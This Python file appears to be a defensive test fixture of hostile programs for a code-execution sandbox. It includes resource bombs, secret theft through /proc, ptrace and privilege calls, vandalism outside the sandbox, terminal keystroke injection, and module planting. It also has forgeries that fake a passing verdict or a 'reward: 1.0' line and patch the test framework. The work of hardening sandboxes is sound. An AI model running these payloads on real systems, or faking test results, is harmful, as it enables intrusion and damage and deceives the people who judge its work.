"""Programs that attack the sandbox, the run or the verdict. None solves its task; `test_hostile_programs.py` runs them.

The task of each is to print a secret that lies in a file, in our environment, in our memory and behind a socket:
a program that gets out can solve it. `OUTSIDE` is the folder with the secret, `OURS` our process id, `PORT` the
socket, `MARK` a word that is on the command lines of whatever a program starts.
"""

LOOT = """
import os
def loot(text):
    import re
    if isinstance(text, bytes): text = text.decode("latin-1")
    found = re.search(r"SECRET-[0-9a-f]{32}", str(text))
    if found: print(found[0], flush=True); os._exit(0)
def attempt(action, *arguments):
    try:
        result = action(*arguments)
    except BaseException:
        return None
    attempt_loot(result)
    return result
def attempt_loot(result):
    try: loot(result)
    except Exception: pass
"""

HARM = {
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fork bomb through libc": """
import ctypes
libc = ctypes.CDLL(None)
while True:
    libc.fork(); libc.vfork if False else None; libc.syscall(56, 17, 0, 0, 0, 0); libc.syscall(435, 0, 0)
""",
    "bomb of processes from the standard library": """
import multiprocessing, subprocess, sys, concurrent.futures
for n in range(200):
    try: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "MARK"])
    except OSError: pass
    try: multiprocessing.get_context("spawn").Process(target=print).start()
    except OSError: pass
print("all tests passed")
""",
    "thread bomb": """
import threading, time
threading.stack_size(1 << 15)
while True:
    try: threading.Thread(target=time.sleep, args=(600,)).start()
    except (RuntimeError, MemoryError): pass
""",
    "threads that never end": """
import threading
def spin():
    while True: pass
for n in range(20): threading.Thread(target=spin).start()
print("all tests passed", flush=True)
""",
    "memory bomb": """
hoard, total = [], 0
try:
    while True: hoard.append(bytearray(1 << 24)); total += 1 << 24
except MemoryError:
    hoard.clear(); print(f"allocated {total}")
""",
    "memory bomb by mmap": """
import mmap
hoard, total = [], 0
try:
    while True:
        m = mmap.mmap(-1, 1 << 24); m.write(bytes(1 << 24)); hoard.append(m); total += 1 << 24
except (OSError, MemoryError):
    print(f"allocated {total}")
""",
    "output flood without a line end": "import os\nwhile True: os.write(1, b'x' * 65536)",
    "error flood": "import os\nwhile True: os.write(2, b'x' * 65536)",
    "infinite loop that ignores signals": """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
    "sleep that ignores signals": """
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True: time.sleep(600)
""",
    "daemon": """
import os, sys
def child():
    try:
        if os.fork(): return False
    except OSError: return None
    return True
if child():
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3): os.dup2(null, fd)  # nobody waits for it
    if child(): os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "MARK"])
print("all tests passed")
""",
    "session of its own, then a sleep": "import os, time\ntry: os.setsid()\nexcept OSError: pass\ntime.sleep(600)",
    "becomes another program": """
import os
for path in ("/bin/sleep", "/usr/bin/sleep"):
    try: os.execve(path, ["MARK", "600"], {})
    except OSError: pass
""",
    "closes everything and sleeps": "import os, time\nos.closerange(0, 256)\ntime.sleep(600)",
    "never reads its input": "import time\ntime.sleep(600)",
    "closes its input": "import os\nos.close(0)\nprint('all tests passed')",
    "fills its directory": """
import os
try:
    for n in range(10_000): open(str(n), "wb").write(os.urandom(1 << 20))
except OSError: pass
while True: pass
""",
    "one huge sparse file": "f = open('sparse', 'wb')\nf.truncate(1 << 50)\nf.write(b'x')",
    "a million small files": """
n = 0
while True:
    try: open(str(n), "w")
    except OSError: pass
    n += 1
""",
    "folders nested without end": """
import os
while True:
    try: os.mkdir("d" * 200); os.chdir("d" * 200); open("hidden", "wb").write(bytes(1 << 16))
    except OSError: pass
""",
    "folders that cannot be listed": """
import os
for n in range(20):
    try: os.mkdir(str(n), 0o300); open(f"{n}/x", "w"); os.mkdir(f"{n}/y", 0)
    except OSError: pass
""",
    "deep recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    "deep recursion in C": """
import sys, pickle
sys.setrecursionlimit(10**9)
x = []
for n in range(10**6): x = [x]
print(repr(x)[:10], pickle.dumps(x)[:10])
""",
    "huge integers": "import sys\nsys.set_int_max_str_digits(0)\nprint(len(str(3 ** 10**9)))",
    "catastrophic regular expression": "import re\nprint(re.match(r'(a+)+$', 'a' * 100 + 'b'))",
    "zip bomb": """
import zlib
data = zlib.compress(bytes(1 << 24))
for n in range(3): data = zlib.compress(data * 64)
while True: data = zlib.decompress(data) * 4
""",
    "pickle bomb": """
import pickle
bomb = b"cbuiltins\\nbytearray\\n(I" + str(1 << 40).encode() + b"\\ntR."
open("program.pkl", "wb").write(bomb); open("result.pkl", "wb").write(bomb)
pickle.loads(bomb)
""",
    "crash": "import ctypes\nctypes.string_at(0)",
    "descriptors": "import os\nwhile True:\n    try: os.open('/dev/null', 0)\n    except OSError: pass",
    "burns time in the kernel": "import os\nwhile True: os.listdir('/usr/lib')",
}
"""What would slow the machine, fill it or outlive the run."""

ESCAPE = {
    "reads environment, command lines and memory of all processes": LOOT
    + """
import sys
loot(os.environ); loot(sys.argv)
for pid in ["self", "1", str(os.getppid()), "OURS", *map(str, range(1, 400))]:
    for name in ("environ", "cmdline", "maps", "cwd/secret", "root/OUTSIDE/secret", "fd/0"):
        attempt(lambda: open(f"/proc/{pid}/{name}", "rb").read(1 << 20))
def memory(pid):
    for line in open(f"/proc/{pid}/maps"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        with open(f"/proc/{pid}/mem", "rb", 0) as f: f.seek(low); loot(f.read(min(high - low, 1 << 22)))
for pid in (os.getppid(), OURS): attempt(memory, pid)
""",
    "reads files": LOOT
    + """
import glob, shutil
for path in ("OUTSIDE/secret", os.path.expanduser("~/secret"), "OUTSIDE/../outside/secret", "/../OUTSIDE/secret"):
    attempt(lambda: open(path).read()); attempt(lambda: shutil.copy(path, "copy") and open("copy").read())
    attempt(lambda: os.link(path, "link") or open("link").read())
    attempt(lambda: os.symlink(path, "sym") or open("sym").read())
    attempt(lambda: os.readlink("sym") and os.stat(path))
for path in ("/root", "/home", "/etc/shadow", "/etc/passwd", "/run", "/var", "/tmp", "/dev/shm"):
    for found in glob.glob(path + "/*") + glob.glob(path + "/*/secret") + glob.glob(path + "/*/*/*/secret"):
        attempt(lambda: open(found, "rb").read(1 << 16))
""",
    "reads through another program": LOOT
    + "for path in ('/bin/cat', '/usr/bin/cat'):\n    attempt(os.execv, path, ['cat', 'OUTSIDE/secret'])",
    "reads what it inherited": LOOT
    + """
for fd in [n for n in range(256) if n not in (1, 2)]:
    attempt(os.set_blocking, fd, False); attempt(os.lseek, fd, 0, 0); attempt(os.read, fd, 1 << 16)
    attempt(lambda: os.listdir(fd)); attempt(os.write, fd, b'{"value": 1, "child-pid": 1}\\n\\x1e["passed", ""]')
""",
    "searches its interpreter": LOOT
    + """
import gc, sys
for found in gc.get_objects(): attempt(lambda: loot(repr(found)[:5000]))
frame = sys._getframe()
while frame: attempt(loot, {**frame.f_globals, **frame.f_locals}); frame = frame.f_back
attempt(loot, sys.modules)
""",
    "talks to the network": LOOT
    + """
import socket, ctypes
attempt(lambda: socket.create_connection(("127.0.0.1", PORT), 2).recv(100))
attempt(lambda: socket.create_connection(("::1", PORT), 2).recv(100))
def unix(path):
    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); return s.recv(100)
attempt(unix, "OUTSIDE/socket"); attempt(unix, "\\0whorl-MARK")
attempt(lambda: socket.socketpair()); attempt(lambda: socket.getaddrinfo("localhost", PORT))
for family in range(46): attempt(lambda: ctypes.CDLL(None).socket(family, 1, 0))
""",
    "traces our process": LOOT
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in (OURS, os.getppid(), 1):
    if libc.ptrace(16, pid, 0, 0) == 0 or libc.ptrace(16902, pid, 0, 0) == 0: print("traced"); os._exit(0)
    here = ctypes.create_string_buffer(1 << 16)
    local, far = Vector(ctypes.addressof(here), 1 << 16), Vector(0x400000, 1 << 16)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(far), 1, 0) > 0: loot(here.raw)
    pidfd = libc.syscall(434, pid, 0)
    if pidfd >= 0: loot(attempt(os.read, libc.syscall(438, pidfd, 3, 0), 1 << 16) or "")
""",
    "takes rights that it does not have": LOOT
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for action in (os.setuid, os.setgid, os.seteuid): attempt(action, 0)
attempt(os.setgroups, [0]); attempt(os.setresuid, 0, 0, 0); attempt(os.chroot, ".")
for flags in (0x10000000, 0x20000, 0x10020000, 0x7C020000): libc.unshare(flags)
libc.mount(b"none", b"OUTSIDE", b"tmpfs", 0, None); libc.mount(b"/", b".", None, 4096, None)
libc.mount(b"proc", b".", b"proc", 0, None); libc.umount2(b"/tmp", 2)
attempt(os.setns, 0) if hasattr(os, "setns") else None
for number in (304, 321, 425, 250, 323, 319): libc.syscall(number, 0, 0, 0, 0, 0)
attempt(lambda: os.memfd_create("x")); attempt(os.mknod, "device", 0o060666, os.makedev(8, 0))
attempt(lambda: open("device", "rb").read(1 << 20)); attempt(lambda: open("OUTSIDE/secret").read())
""",
    "raises its limits": LOOT
    + """
import resource
for name in ("AS", "CPU", "FSIZE", "NOFILE", "NPROC", "CORE"):
    kind = getattr(resource, "RLIMIT_" + name)
    attempt(resource.setrlimit, kind, (-1, -1)); attempt(resource.prlimit, OURS, kind, (1, 1))
    attempt(resource.prlimit, os.getppid(), kind, (1, 1))
bytearray(1 << 30); print("SECRET")
""",
}
"""What would find the secret."""

VANDALISM = {
    "writes outside": LOOT
    + """
import shutil
for path in ("OUTSIDE/secret", "OUTSIDE/new", "OUTSIDE/folder/new"):
    for mode in ("w", "a", "r+", "x"): attempt(lambda: open(path, mode).write("was here"))
    attempt(os.mkdir, path); attempt(os.symlink, "/etc", path); attempt(os.mkfifo, path)
attempt(os.unlink, "OUTSIDE/secret"); attempt(os.rename, "OUTSIDE/secret", "OUTSIDE/moved")
attempt(os.truncate, "OUTSIDE/secret", 0); attempt(os.chmod, "OUTSIDE/secret", 0o777)
attempt(os.chown, "OUTSIDE/secret", 1, 1); attempt(os.utime, "OUTSIDE/secret", (0, 0))
attempt(os.setxattr, "OUTSIDE/secret", "user.x", b"y"); attempt(shutil.rmtree, "OUTSIDE")
attempt(os.rename, "program.py", "OUTSIDE/program.py"); attempt(os.link, "program.py", "OUTSIDE/program.py")
for path in ("/usr/lib/whorl-MARK", "/etc/whorl-MARK", "/whorl-MARK", "/dev/shm/whorl-MARK", "/var/tmp/whorl-MARK"):
    attempt(lambda: open(path, "w").write("was here"))
""",
    "plays with symbolic links": LOOT
    + """
here = os.getcwd()
for name, target in {"a": "OUTSIDE", "b": "/", "c": "..", "d": "/proc/self/root", "e": "OUTSIDE/secret"}.items():
    attempt(os.symlink, target, name); attempt(lambda: open(name + "/new", "w").write("x"))
    attempt(lambda: open(name + "/secret", "w").write("x")); attempt(os.listdir, name)
attempt(os.unlink, "program.py"); attempt(os.symlink, "OUTSIDE/secret", "program.py")
os.mkdir("deep"); os.symlink("OUTSIDE/folder", "deep/folder")
# The folder that will be removed as ours, exchanged for a link to theirs.
attempt(os.rename, here, here + "-moved"); attempt(os.symlink, "OUTSIDE", here)
attempt(os.rmdir, here); attempt(os.symlink, "OUTSIDE", "../" + os.path.basename(here))
""",
    "kills": LOOT
    + """
import signal, ctypes
libc = ctypes.CDLL(None)
for pid in (OURS, os.getppid()):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
        attempt(os.kill, pid, number); libc.syscall(200, pid, number); libc.syscall(234, pid, pid, number)
    attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))
    attempt(os.setpriority, os.PRIO_PROCESS, pid, 19); attempt(os.sched_setaffinity, pid, [0])
for group in (os.getpgid(OURS) if attempt(os.getpgid, OURS) else OURS,): attempt(os.killpg, group, signal.SIGKILL)
""",
    "types into our terminal": LOOT
    + """
import fcntl
for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
    fd = attempt(os.open, path, os.O_RDWR)
    for byte in b"echo pwned\\n": attempt(fcntl.ioctl, fd, 0x5412, bytes([byte]))
for fd in (0, 1, 2): attempt(fcntl.ioctl, fd, 0x5412, b"x")
""",
    "leaves modules for the next run": """
for name in ("sitecustomize", "usercustomize", "json", "os", "program_talk", "confine", "encodings"):
    for place in (".", "..", "/tmp", "/usr/lib/python3/dist-packages"):
        try: open(f"{place}/{name}.py", "w").write("print('SECRET'); import os; os._exit(0)")
        except OSError: pass
print("all tests passed")
""",
}
"""What would change files, processes or settings that are not its own."""

FORGERY = {
    "prints that all tests passed": "print('all 2 tests passed\\n1 passed in 0.01s\\nOK\\nreward: 1.0')",
    "prints our verdict": 'print(\'\\x1e["passed", ""]\\x1epassed\\x1f\')',
    "leaves before the tests": "import sys; sys.exit(0)",
    "leaves at once": "import os; os._exit(0)",
    "speaks last": "import atexit, os\natexit.register(lambda: os.write(1, b'all tests passed\\n'))",
    "patches what might judge it": """
import builtins, sys, unittest, doctest, io, json, os
class Always:
    def __eq__(self, other): return True
    def __contains__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self])
    def __repr__(self): return "passed" * 10**5
builtins.AssertionError = ValueError
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a: None
doctest.testmod = lambda *a: None
json.loads = json.dumps = lambda *a, **k: Always()
builtins.__import__ = lambda *a, **k: Always()
builtins.print = builtins.len = builtins.str = builtins.repr = builtins.isinstance = Always()
sys.exit = os._exit = lambda *a: None
sys.stdout = sys.stderr = sys.stdin = Always()
sys.excepthook = lambda *a: None
sys.modules["__main__"] = sys.modules["program"] = Always()
raise SystemExit(0)
""",
    "answers for everything": "import sys\nfor n in range(5000): print(n)",
    "speaks of itself at length": "class A:\n    def __repr__(self): return 'x' * (1 << 17)\nprint(A())",
}
"""What a careless judge would take for success."""
